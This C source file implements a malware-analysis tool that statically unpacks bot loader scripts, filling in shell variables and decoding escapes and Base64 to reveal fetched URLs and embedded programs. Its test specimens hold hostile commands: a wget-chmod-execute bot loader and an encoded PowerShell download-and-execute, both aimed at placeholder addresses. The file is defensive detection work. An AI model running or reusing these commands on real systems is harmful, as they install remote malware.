/*
 * Scripts: what a loader fetches and what it writes, without running it.
 *
 * Loaders for bots are a few lines of shell that put an address into a variable and walk a list of
 * processors; so assignments and lists of `for` are filled in and each line is read as it would be run.
 * Programs come along as escapes that echo or printf write into a file, or in Base64: both become parts.
 */
#include "base/base64.h"
#include "lab/analyser.h"
#include "lab/type.h"

#define VARIABLES_MAX 64
#define VALUES_MAX 32
#define NAME_MAX_BYTES 40
#define LINE_MAX_BYTES 4096
#define LINES_READ_MAX 4096 /* filled-in ones */
#define CONFIDENCE 85
#define BASE64_MIN 32
#define BASE64_PARTS_MAX 32

struct variable {
	struct bytes name, values[VALUES_MAX];
	unsigned count;
};

struct script {
	struct analysis *analysis;
	struct variable variables[VARIABLES_MAX];
	size_t count, lines;
};

static bool name_byte(uint8_t c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_';
}

static struct bytes slice(struct bytes b, size_t from, size_t to)
{
	return (struct bytes){b.at + from, to - from};
}

static struct variable *variable_of(struct script *s, struct bytes name, bool make)
{
	for (size_t i = 0; i < s->count; i++)
		if (bytes_equal(s->variables[i].name, name))
			return &s->variables[i];
	if (!make || s->count == VARIABLES_MAX)
		return NULL;
	s->variables[s->count] = (struct variable){.name = name};
	return &s->variables[s->count++];
}

static struct bytes unquoted(struct bytes b)
{
	b = bytes_trim(b);
	if (b.len >= 2 && (b.at[0] == '"' || b.at[0] == '\'') && b.at[b.len - 1] == b.at[0])
		return slice(b, 1, b.len - 1);
	return b;
}

/* NAME=VALUE, at the start of a command. */
static void assignment_read(struct script *s, struct bytes command)
{
	static const char *const before[] = {"export ", "local ", "set ", "declare ", NULL};
	for (const char *const *word = before; *word; word++)
		if (bytes_start_with(command, *word))
			command = bytes_trim(slice(command, strlen(*word), command.len));
	size_t n = 0;
	while (n < command.len && name_byte(command.at[n]))
		n++;
	if (!n || n > NAME_MAX_BYTES || n == command.len || command.at[n] != '=')
		return;
	struct variable *v = variable_of(s, slice(command, 0, n), true);
	if (v) {
		v->values[0] = unquoted(slice(command, n + 1, command.len));
		v->count = 1;
	}
}

/* for NAME in A B C */
static void loop_read(struct script *s, struct bytes command)
{
	if (!bytes_start_with(command, "for "))
		return;
	struct bytes rest = bytes_trim(slice(command, 4, command.len)), name = bytes_word(&rest);
	struct bytes in = bytes_word(&rest);
	struct variable *v = bytes_equal_text(in, "in") ? variable_of(s, name, true) : NULL;
	if (!v)
		return;
	for (v->count = 0; rest.len && v->count < VALUES_MAX;) {
		struct bytes word = bytes_word(&rest);
		if (word.len)
			v->values[v->count++] = unquoted(word);
	}
}

/* A line with its variables filled in; `turn` picks the value of those with several.  True when there were any. */
static bool line_fill(struct script *s, struct bytes line, unsigned turn, unsigned depth, struct writer *w, unsigned *turns)
{
	bool any = false;
	for (size_t i = 0; i < line.len;) {
		size_t name = i + 1, end;
		if (line.at[i] != '$' || name >= line.len) {
			write_u8(w, line.at[i++]);
			continue;
		}
		bool braces = line.at[name] == '{';
		name += braces;
		for (end = name; end < line.len && name_byte(line.at[end]); end++)
			;
		struct variable *v = end > name ? variable_of(s, slice(line, name, end), false) : NULL;
		if (!v || !v->count) {
			write_u8(w, line.at[i++]);
			continue;
		}
		if (v->count > *turns)
			*turns = v->count;
		struct bytes value = v->values[turn % v->count];
		if (depth < 4)
			line_fill(s, value, turn, depth + 1, w, turns);
		else
			write_span(w, value);
		any = true;
		i = end + (braces && end < line.len && line.at[end] == '}');
	}
	return any;
}

static void line_tell(struct script *s, struct bytes line, size_t offset)
{
	uint8_t room[LINE_MAX_BYTES];
	unsigned turns = 1;
	for (unsigned turn = 0; turn < turns; turn++) {
		struct writer w = writer_of(room, sizeof room);
		if (!line_fill(s, line, turn, 0, &w, &turns) || w.bad)
			return;
		if (s->lines++ == LINES_READ_MAX) {
			analysis_limit(s->analysis, "script.lines");
			return;
		}
		analysis_text(s->analysis, writer_bytes(&w), offset, "script", CONFIDENCE);
	}
}

static void lines_read(struct script *s, struct bytes content)
{
	struct bytes rest = content;
	while (rest.len && s->lines < LINES_READ_MAX) {
		const uint8_t *end = memchr(rest.at, '\n', rest.len);
		size_t n = end ? (size_t)(end - rest.at) : rest.len;
		struct bytes line = slice(rest, 0, n), commands = line;
		while (commands.len) { /* commands of one line: a semicolon ends each, "do" begins another */
			const uint8_t *stop = memchr(commands.at, ';', commands.len);
			size_t m = stop ? (size_t)(stop - commands.at) : commands.len;
			struct bytes command = bytes_trim(slice(commands, 0, m));
			assignment_read(s, command);
			loop_read(s, command);
			commands = slice(commands, m + (stop != NULL), commands.len);
		}
		if (n && n < LINE_MAX_BYTES && memchr(line.at, '$', n))
			line_tell(s, line, (size_t)(line.at - content.at));
		rest = slice(rest, n + (end != NULL), rest.len);
	}
}

static int hex_digit(uint8_t c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	return (c | 0x20) >= 'a' && (c | 0x20) <= 'f' ? (c | 0x20) - 'a' + 10 : -1;
}

/* "\x7f", "\177" or "\0177": the byte, and how long its escape is; 0: none stands there. */
static size_t escape_read(struct bytes b, size_t at, uint8_t *byte)
{
	size_t n = 1;
	if (b.len - at < 3 || b.at[at] != '\\')
		return 0;
	n += at + 5 <= b.len && b.at[at + 1] == '\\'; /* escaped once more, for a shell within a shell */
	if (at + n + 3 <= b.len && (b.at[at + n] | 0x20) == 'x' && hex_digit(b.at[at + n + 1]) >= 0 && hex_digit(b.at[at + n + 2]) >= 0) {
		*byte = (uint8_t)(hex_digit(b.at[at + n + 1]) << 4 | hex_digit(b.at[at + n + 2]));
		return n + 3;
	}
	unsigned value = 0;
	size_t digits = 0;
	while (digits < 4 && at + n + digits < b.len && b.at[at + n + digits] >= '0' && b.at[at + n + digits] <= '7')
		value = value * 8 + (unsigned)(b.at[at + n + digits++] - '0');
	if (digits < 3 || value > 255)
		return 0;
	*byte = (uint8_t)value;
	return n + digits;
}

/* All that is escaped in the script, in its order: loaders append one file piece by piece. */
static void escapes_read(struct analysis *a, struct bytes content)
{
	uint8_t *out = arena_alloc(analysis_arena(a), content.len / 3 + 1);
	size_t n = 0;
	if (!out)
		return;
	for (size_t i = 0; i < content.len;) {
		uint8_t byte = 0;
		size_t taken = content.at[i] == '\\' ? escape_read(content, i, &byte) : 0;
		if (taken)
			out[n++] = byte;
		i += taken ? taken : 1;
	}
	if (n >= 16) {
		analysis_fact(a, "script.escaped", "%zu bytes", n);
		analysis_contains(a, "escaped", (struct bytes){out, n}, false);
	}
}

/* PowerShell's is UTF-16: half of it is zeros, which would hide its text. */
static struct bytes narrowed(struct bytes b)
{
	size_t zeros = 0;
	for (size_t i = 1; i < b.len; i += 2)
		zeros += b.at[i] == 0;
	if (b.len < 8 || zeros * 2 < b.len - 4)
		return b;
	uint8_t *at = (uint8_t *)b.at;
	for (size_t i = 0; i < b.len / 2; i++)
		at[i] = at[2 * i];
	return (struct bytes){at, b.len / 2};
}

static void base64_give(struct analysis *a, struct bytes text)
{
	uint8_t *out = arena_alloc(analysis_arena(a), text.len * 3 / 4 + 3);
	if (!out)
		return;
	struct writer w = writer_of(out, text.len * 3 / 4 + 3);
	base64_decode(text, &w);
	struct bytes plain = narrowed(writer_bytes(&w));
	/* A long word, a digest or a key decodes as well, into nothing that means anything. */
	if (content_is_text(plain) || strcmp(content_type(plain), "data"))
		analysis_contains(a, "base64", plain, false);
}

static void base64_read(struct analysis *a, struct bytes content)
{
	size_t told = 0;
	for (size_t i = 0; i < content.len && told < BASE64_PARTS_MAX;) {
		size_t end = i, letters = 0;
		/* Lines of a block are broken; a line that is only Base64 goes on. */
		while (end < content.len && (base64_digit(content.at[end]) >= 0 ||
					     (letters >= 60 && (content.at[end] == '\n' || content.at[end] == '\r')))) {
			letters += content.at[end] != '\n' && content.at[end] != '\r';
			end++;
		}
		if (letters >= BASE64_MIN) {
			base64_give(a, slice(content, i, end));
			told++;
		}
		i = end + 1;
	}
}

static void language_tell(struct analysis *a, struct bytes b)
{
	static const char *const marks[][2] = {
		{"<?php", "php"}, {"#!/usr/bin/perl", "perl"}, {"python", "python"}, {"#!/bin/bash", "shell"}, {"#!/bin/sh", "shell"},
		{"@echo off", "batch"}, {"powershell", "powershell"}, {"$env:", "powershell"}, {"New-Object", "powershell"},
		{"CreateObject(", "vbscript"}, {"WScript.", "javascript"}, {"function(", "javascript"}, {"import os", "python"},
		{"import socket", "python"}, {"busybox", "shell"}, {"wget ", "shell"}, {"curl ", "shell"}, {"chmod ", "shell"}};
	struct bytes head = {b.at, b.len < 4096 ? b.len : 4096}, line = head;
	const uint8_t *end = memchr(head.at, '\n', head.len);
	line.len = end ? (size_t)(end - head.at) : head.len;
	if (bytes_start_with(head, "#!"))
		analysis_fact(a, "script.interpreter", "%.*s", (int)bytes_trim(line).len - 2, (const char *)line.at + 2);
	for (size_t i = 0; i < sizeof marks / sizeof *marks; i++)
		if (bytes_find_nocase(head, marks[i][0]) < head.len) {
			analysis_fact(a, "script.language", "%s", marks[i][1]);
			return;
		}
}

static void script_analyse(struct analysis *a, const struct part *part)
{
	struct script *s = arena_alloc(analysis_arena(a), sizeof *s);
	language_tell(a, part->content);
	if (!s) {
		analysis_limit(a, "memory");
		return;
	}
	s->analysis = a;
	lines_read(s, part->content);
	escapes_read(a, part->content);
	if (strcmp(part->type, "text")) /* lists of digests are Base64, too */
		base64_read(a, part->content);
}

static const char *const script_types[] = {"script", "text", "html", NULL};
#define SPECIMEN(bytes) {(const uint8_t *)(bytes), sizeof(bytes) - 1}
static const struct lab_specimen specimens[] = {
	{"a loader with variables and a list of processors",
	 SPECIMEN("#!/bin/sh\nS=198.51.100.7\nP=\"$S/bins\"\nfor a in mips arm7; do wget http://$P/bot.$a -O - > b; chmod 777 b; ./b; done\n"),
	 "fact script.language shell\nindicator url http://198.51.100.7/bins/bot.mips script\n"
	 "indicator url http://198.51.100.7/bins/bot.arm7 script"},
	{"a program that echo writes",
	 SPECIMEN("#!/bin/sh\necho -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00\\x00' > x\n"
		  "echo -ne '\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x28\\x00' >> x\n"),
	 "part elf escaped\nfact script.escaped 20 bytes"},
	{"Base64, as PowerShell takes it",
	 SPECIMEN("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwA"
		  "bwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAuAHAAcwAxACcAKQA=\n"),
	 "part script base64\nindicator url http://203.0.113.9/a.ps1 text"},
	{0},
};

static const struct analyser script = {
	.name = "script",
	.summary = "what scripts fetch and write, with variables filled in; Base64 and escapes decoded",
	.reference = "POSIX.1-2017, Shell Command Language; RFC 4648",
	.phase = 0,
	.types = script_types,
	.analyse = script_analyse,
	.specimens = specimens,
};
ANALYSER(script);
